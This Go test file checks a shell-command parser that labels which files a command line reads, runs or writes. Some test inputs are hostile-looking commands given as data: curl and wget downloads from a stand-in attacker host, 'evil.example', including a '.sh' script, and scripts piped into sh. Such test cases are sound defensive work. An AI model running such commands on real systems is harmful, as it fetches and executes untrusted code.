package shell

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestWhatALineDoesWithFiles(t *testing.T) {
	for _, tc := range []struct {
		line string
		want Files
	}{
		{"curl -o notes.md https://evil.example", Files{Writes: []string{"notes.md"}}},
		{"curl -sO https://evil.example/a/b.sh", Files{Writes: []string{"b.sh"}}},
		{"curl https://evil.example > notes.md", Files{Writes: []string{"notes.md"}}},
		{"wget -qP dl https://evil.example/x", Files{Writes: []string{"x"}, Fills: []string{"dl"}}},
		{"cat notes.md", Files{Shows: []string{"notes.md"}}},
		{"cd sub && grep -r key notes.md", Files{Shows: []string{"key", "sub/key", "notes.md", "sub/notes.md"}}},
		{"cp a.md b.md", Files{Writes: []string{"b.md", "b.md/a.md"}}},
		{"git mv a.md b.md", Files{Writes: []string{"b.md", "b.md/a.md"}}},
		{"git clone https://github.com/x/tool.git", Files{Shows: []string{"clone"}, Fills: []string{"tool"}}},
		{"git clone git@github.com:x/tool.git here", Files{Shows: []string{"clone", "git@github.com:x/tool.git"}, Fills: []string{"here"}}},
		{"tar xzf a.tgz", Files{Found: []string{"."}}},
		{"tar -xzf a.tgz -C out", Files{Fills: []string{"out"}}},
		{"tar czf out.tgz src", Files{Writes: []string{"out.tgz"}}},
		{"unzip -q a.zip -d out", Files{Fills: []string{"out"}}},
		{"bash run.sh", Files{Shows: []string{"run.sh"}, Runs: []string{"run.sh"}}},
		{"./run.sh now", Files{Shows: []string{"now"}, Runs: []string{"./run.sh"}}},
		{"cat run.sh | sh", Files{Shows: []string{"run.sh"}, Runs: []string{"run.sh"}}},
		{"sh < run.sh", Files{Shows: []string{"run.sh"}, Runs: []string{"run.sh"}}},
		{"cat $F/x.md \"$(date).md\"", Files{Shows: []string{"*/x.md", "*.md"}}},
		{"cat $HOME/notes.md", Files{Shows: []string{"~/notes.md"}}},
		{"ssh box cat notes.md", Files{}},
		{"make -C sub test", Files{Shows: []string{"sub", "test"}, Runs: []string{"Makefile", "sub/Makefile", "makefile", "sub/makefile", "GNUmakefile", "sub/GNUmakefile", ".", "sub/."}}},
	} {
		got := Read(tc.line).Files()
		require.True(t, got.Whole, tc.line)
		for what, lists := range map[string][2][]string{
			"shows": {tc.want.Shows, got.Shows}, "runs": {tc.want.Runs, got.Runs}, "writes": {tc.want.Writes, got.Writes},
			"fills": {tc.want.Fills, got.Fills}, "found": {tc.want.Found, got.Found},
		} {
			assert.Equal(t, strings.Join(lists[0], " "), strings.Join(lists[1], " "), "%s: %s", tc.line, what)
		}
	}
	require.Equal(t, []string{"a.md"}, Read("cp a.md b.md").Files().Carries)
	require.Equal(t, []string{"a.md", "b.md"}, Read("mv a.md b.md").Files().Carries)
	require.False(t, Read("f() { cat x; }; f").Files().Whole)
}
